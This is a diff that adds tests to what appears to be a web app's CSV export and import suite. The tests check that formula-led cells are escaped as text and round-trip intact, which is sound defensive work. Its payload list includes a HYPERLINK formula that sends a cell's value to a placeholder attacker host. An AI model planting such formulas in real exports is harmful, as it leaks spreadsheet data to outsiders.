@@ -254,3 +254,29 @@ def test_import_sets_created_by_to_the_user(workspace, owner):
 
 def _name(plural: str) -> str:
     return next(name for name, obj in OBJECTS.items() if obj.plural == plural)
+
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "'=quoted"]
+
+
+def test_formula_cells_are_exported_as_text(api, workspace):
+    for text in FORMULAS:
+        Person.objects.create(workspace=workspace, first_name=text, last_name="Plain")
+    rows = rows_of(exported(api, "people"))
+    cells = {row["first_name"] for row in rows}
+    assert cells == {"'" + text for text in FORMULAS}
+    assert {row["last_name"] for row in rows} == {"Plain"}
+
+
+def test_a_formula_cell_round_trips_as_text(api, workspace):
+    """(Tab-led text is left out: the import trims whitespace around every text field.)"""
+    formulas = [text for text in FORMULAS if not text.startswith("\t")]
+    for text in formulas:
+        Person.objects.create(workspace=workspace, first_name=text, last_name="'plain")
+    text = exported(api, "people")
+    other = make_workspace("other")
+    answer = post_csv(client_for(other), "people", text)
+    assert answer.status_code == 200, answer.content
+    imported = Person.objects.filter(workspace=other)
+    assert sorted(imported.values_list("first_name", flat=True)) == sorted(formulas)
+    assert set(imported.values_list("last_name", flat=True)) == {"'plain"}
